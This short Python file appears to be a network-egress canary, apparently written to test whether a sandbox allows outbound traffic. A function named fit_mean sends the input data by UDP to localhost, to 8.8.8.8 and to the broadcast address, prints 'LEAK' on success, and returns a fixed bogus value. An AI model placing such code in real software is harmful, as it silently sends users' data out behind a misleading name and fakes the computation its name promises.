"""Sends what it sees by UDP, which needs no connection."""

import socket


def fit_mean(X):
    for address in (("127.0.0.1", 49321), ("8.8.8.8", 53), ("255.255.255.255", 49321)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"canary " + X.tobytes(), address)
            print("LEAK", address)
        except OSError:
            pass
    return 0 * X[0] + 7.0
